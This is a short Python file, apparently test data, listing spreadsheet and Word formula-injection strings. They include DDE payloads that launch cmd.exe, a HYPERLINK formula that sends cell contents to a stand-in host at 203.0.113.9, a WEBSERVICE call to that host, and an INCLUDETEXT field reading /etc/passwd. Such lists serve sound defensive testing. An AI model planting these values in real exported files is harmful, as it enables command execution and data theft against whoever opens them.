"""Texts that a spreadsheet, or a field of Word, would run if they ever were more than text."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.9/?"&A1)',
    '=WEBSERVICE("http://203.0.113.9")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    ";=1+1",
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    'INCLUDETEXT "file:///etc/passwd"',
)
